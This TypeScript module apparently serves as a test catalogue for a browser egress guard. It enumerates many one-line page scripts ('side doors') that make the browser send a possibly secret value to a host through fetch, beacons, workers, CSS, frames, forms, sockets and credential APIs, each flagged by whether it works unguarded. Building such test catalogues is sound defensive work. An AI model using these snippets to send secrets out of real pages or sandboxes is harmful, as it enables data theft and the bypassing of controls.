import { secretTransforms } from '../secret-transforms.ts'

/** A way in which a page can make the browser send something. */
export interface SideDoor {
  name: string
  /**
   * Runs in the page. `url` has the value in it; `bare` has not, so the value goes into a body or a header; `value` is the value
   * itself. `add` appends an element, `work` starts a worker, `style` adds rules, `frame` adds a frame with this markup.
   */
  script: string
  /** Whether it reaches its host in our browsers while nothing is guarded. */
  works: boolean
}

const open = (name: string, script: string): SideDoor => ({ name, script, works: true })
/** Off, refused by Chromium, or out of reach behind a proxy. */
const shut = (name: string, script: string): SideDoor => ({ name, script, works: false })

const post = `method: 'POST', mode: 'no-cors'`

const byScripts = [
  open('fetch', `fetch(url, { mode: 'no-cors' })`),
  open('fetch-text', `fetch(bare, { ${post}, body: value })`),
  open('fetch-json', `fetch(bare, { ${post}, body: JSON.stringify({ v: value }) })`),
  open('fetch-blob', `fetch(bare, { ${post}, body: new Blob([value]) })`),
  open(
    'fetch-form',
    `const form = new FormData(); form.append('v', value); fetch(bare, { ${post}, body: form })`,
  ),
  open('fetch-search', `fetch(bare, { ${post}, body: new URLSearchParams({ v: value }) })`),
  open(
    'fetch-gzip',
    `new Response(new Blob([value]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer()
      .then((body) => fetch(bare, { ${post}, body }))`,
  ),
  open('fetch-header', `fetch(bare, { headers: { 'x-more': value } })`),
  open('fetch-method', `fetch(bare, { method: hex(value) })`),
  // Without a preflight of its own: the one for the first method allows every other.
  open(
    'fetch-method-later',
    `fetch(bare, { method: 'LOOK' }).then(() => fetch(bare, { method: hex(value) }))`,
  ),
  open('fetch-accept', `fetch(bare, { mode: 'no-cors', headers: { Accept: hex(value) } })`),
  open(
    'xhr-accept-language',
    `const request = new XMLHttpRequest(); request.open('GET', bare); request.setRequestHeader('Accept-Language', hex(value)); request.send()`,
  ),
  open(
    'worker-accept',
    `work('fetch("' + bare + '", { mode: "no-cors", headers: { Accept: "' + btoa(value) + '" } })')`,
  ),
  open('fetch-keepalive', `fetch(url, { mode: 'no-cors', keepalive: true })`),
  open(
    'fetch-referrer',
    `fetch(bare, { mode: 'no-cors', referrerPolicy: 'unsafe-url', referrer: '/?v=' + encodeURIComponent(value) })`,
  ),
  open('fetch-later', `fetchLater(url, { activateAfter: 0 })`),
  open(
    'xhr',
    `const request = new XMLHttpRequest(); request.open('POST', bare); request.send(value)`,
  ),
  open(
    'xhr-at-once',
    `const request = new XMLHttpRequest(); request.open('GET', url, false); try { request.send() } catch {}`,
  ),
  open('beacon', `navigator.sendBeacon(bare, value)`),
  open('beacon-blob', `navigator.sendBeacon(bare, new Blob([value]))`),
  open('event-source', `new EventSource(url)`),
  open('import', `import(url)`),
  open(
    'redirect',
    `fetch('/redirect?' + encodeURIComponent(bare), { method: 'POST', mode: 'no-cors', body: value })`,
  ),
  open('worker', `work('fetch("' + url + '", { mode: "no-cors" })')`),
  open('worker-import', `work('importScripts("' + url + '")')`),
  open('worker-module', `work('import "' + url + '"', { type: 'module' })`),
  open(
    'worker-of-worker',
    `work('new Worker(URL.createObjectURL(new Blob([\\'fetch("' + url + '", { mode: "no-cors" })\\'])))')`,
  ),
  open('shared-worker', `new SharedWorker('/shared.js?' + encodeURIComponent(url))`),
  open('audio-worklet', `new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(url)`),
  open('paint-worklet', `CSS.paintWorklet.addModule(url)`),
  open('font-face', `new FontFace('a', 'url(' + url + ')').load()`),
  open(
    'cache',
    `caches.open('a').then((cache) => cache.add(new Request(url, { mode: 'no-cors' })))`,
  ),
  shut('service-worker', `navigator.serviceWorker.register(url)`),
  open('fetch-topics', `fetch(url, { mode: 'no-cors', browsingTopics: true })`),
  open('fetch-token', `fetch(url, { privateToken: { version: 1, operation: 'token-request' } })`),
]

const byElements = [
  open('image', `new Image().src = url`),
  open('image-set', `add('img', { srcset: url + ' 1x' })`),
  open('image-lazy', `add('img', { loading: 'lazy', src: url })`),
  open('image-button', `add('input', { type: 'image', src: url })`),
  open('image-of-vector', `add('div').innerHTML = '<svg><image href="' + url + '"/></svg>'`),
  open(
    'image-of-filter',
    `add('div').innerHTML = '<svg><filter id=f><feImage href="' + url + '"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>'`,
  ),
  open('image-of-body', `document.body.background = url`),
  open('image-of-cell', `add('table').innerHTML = '<td background="' + url + '">'`),
  open(
    'link-preload-set',
    `add('link', { rel: 'preload', as: 'image', imageSrcset: url + ' 1x' })`,
  ),
  shut('vector-use', `add('div').innerHTML = '<svg><use href="' + url + '#a"/></svg>'`),
  shut('download', `add('a', { href: url, download: 'a', textContent: 'x' }).click()`),
  open('style-background', `add('p', { textContent: 'x' }).style.background = 'url(' + url + ')'`),
  open('style-border', `style('p { border-image: url(' + url + ') 1 }')`),
  open('style-mask', `style('p { mask-image: url(' + url + ') }')`),
  open('style-list', `style('p { display: list-item; list-style-image: url(' + url + ') }')`),
  open('style-content', `style('p::before { content: url(' + url + ') }')`),
  open(
    'style-font',
    `style('@font-face { font-family: b; src: url(' + url + ') } p { font-family: b }')`,
  ),
  open('style-import', `style('@import url(' + url + ')')`),
  open('link-style', `add('link', { rel: 'stylesheet', href: url })`),
  open('link-preload', `add('link', { rel: 'preload', as: 'image', href: url })`),
  open('link-preload-data', `add('link', { rel: 'preload', as: 'fetch', href: url })`),
  open('link-module', `add('link', { rel: 'modulepreload', href: url })`),
  open('link-prefetch', `add('link', { rel: 'prefetch', href: url })`),
  open('link-dictionary', `add('link', { rel: 'compression-dictionary', href: url })`),
  open('script', `add('script', { src: url })`),
  open('script-module', `add('script', { type: 'module', src: url })`),
  open('media-video', `add('video', { src: url })`),
  open('media-audio', `new Audio().src = url`),
  open('media-poster', `add('video', { poster: url })`),
  open(
    'media-source',
    `add('video').append(Object.assign(document.createElement('source'), { src: url }))`,
  ),
  open('object', `add('object', { data: url })`),
  open('embed', `add('embed', { src: url })`),
  open('frame', `add('iframe', { src: url })`),
  open('frame-of-text', `frame('<img src="' + url + '">')`),
  open(
    'frame-in-sandbox',
    `frame('<script>fetch("' + url + '", { mode: "no-cors" })</' + 'script>').sandbox = 'allow-scripts'`,
  ),
  open('frame-refresh', `frame('<meta http-equiv="refresh" content="0;url=' + url + '">')`),
  open('form-get', `submit('get', url, 'v', value)`),
  open('form-post', `submit('post', bare, 'v', value)`),
  shut('link-icon', `add('link', { rel: 'icon', href: url })`),
  shut('link-manifest', `add('link', { rel: 'manifest', href: url })`),
  shut('link-prerender', `add('link', { rel: 'prerender', href: url })`),
  shut('image-attribution', `add('img', { attributionSrc: url })`),
  shut(
    'track',
    `add('video').append(Object.assign(document.createElement('track'), { src: url, default: true }))`,
  ),
  open('ping', `add('a', { href: '#', ping: url, textContent: 'x' }).click()`),
]

const byConnections = [
  open('socket', `new WebSocket(url.replace('https', 'wss'))`),
  open('socket-of-worker', `work('new WebSocket("' + url.replace('https', 'wss') + '")')`),
  open('socket-stream', `new WebSocketStream(url.replace('https', 'wss'))`),
  open('link-header', `add('iframe', { src: '/linking?' + encodeURIComponent(url) })`),
  open('policy-report', `add('iframe', { src: '/policy?' + encodeURIComponent(url) })`),
  open(
    'related-origins',
    `navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32), rpId: new URL(url).hostname } })`,
  ),
  shut('transport', `new WebTransport(url)`),
  shut('early-hints', `add('iframe', { src: '/hinting?' + encodeURIComponent(url) })`),
  shut('report-endpoint', `add('iframe', { src: '/reporting?' + encodeURIComponent(url) })`),
  shut('rules-prefetch', `rules('prefetch', url)`),
  shut('rules-prerender', `rules('prerender', url)`),
  shut(
    'federated',
    `navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: 'a' }] } })`,
  ),
  shut('federated-provider', `IdentityProvider.register(url)`),
  shut('federated-status', `navigator.login.setStatus('logged-in')`),
  shut(
    'digital',
    `navigator.credentials.get({ digital: { requests: [{ protocol: 'openid4vp', data: { url } }] } })`,
  ),
  shut(
    'payment',
    `new PaymentRequest([{ supportedMethods: url }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
  ),
  shut(
    'credential-icon',
    `navigator.credentials.store(new PasswordCredential({ id: 'a', password: 'b', iconURL: url }))`,
  ),
  shut(
    'auction',
    `navigator.joinAdInterestGroup({ owner: new URL(url).origin, name: 'a', biddingLogicURL: url, updateURL: url }, 99)`,
  ),
  shut(
    'auction-run',
    `navigator.runAdAuction({ seller: new URL(url).origin, decisionLogicURL: url })`,
  ),
  shut('shared-storage', `sharedStorage.worklet.addModule(url)`),
  open(
    'bundle',
    `add('script', { type: 'webbundle', textContent: JSON.stringify({ source: url, resources: [url + '/a'] }) })`,
  ),
  shut(
    'media-artwork',
    `navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: url }] })`,
  ),
  shut('notification-icon', `new Notification('a', { icon: url })`),
  shut('speech', `new webkitSpeechRecognition().start()`),
]

/** Scripts, elements and what browsers do by themselves; each is tried on a host of its own. */
export const sideDoors: readonly SideDoor[] = [...byScripts, ...byElements, ...byConnections]

/** Every spelling of the value, each sent as part of an address. */
export const spellingDoors: readonly SideDoor[] = secretTransforms.map(({ write }, index) =>
  open(
    `spelling-${index}`,
    `fetch(bare + '?v=' + encodeURIComponent((${write.toString()})(value)), { mode: 'no-cors' })`,
  ),
)
